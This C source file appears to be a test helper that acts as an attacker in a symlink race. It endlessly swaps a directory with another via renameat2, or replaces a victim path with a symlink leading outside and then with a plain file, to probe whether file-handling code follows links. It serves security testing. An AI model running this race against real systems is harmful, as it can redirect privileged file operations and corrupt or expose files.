/*
 * An attacker: puts a link that leads out in the place of a directory, or of a file, or another directory, and takes it
 * away again, as fast as the machine can.
 *
 *     swap directory VICTIM OTHER      exchanges the two names, whichever stands where
 *     swap file VICTIM OUTSIDE         puts a new link to OUTSIDE, then a new file, over VICTIM
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define RENAME_EXCHANGE_FLAG 2

int main(int argc, char **argv) {
  char next[4096];
  if (argc != 4) return 2;
  /* It must not outlive the test. */
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  snprintf(next, sizeof next, "%s.next", argv[2]);
  if (strcmp(argv[1], "directory") == 0)
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE_FLAG);
  for (;;) {
    if (symlink(argv[3], next) == 0) rename(next, argv[2]);
    int fd = open(next, O_CREAT | O_EXCL | O_WRONLY, 0600);
    if (fd < 0) continue;
    if (write(fd, "inside", 6) == 6) rename(next, argv[2]);
    close(fd);
  }
}
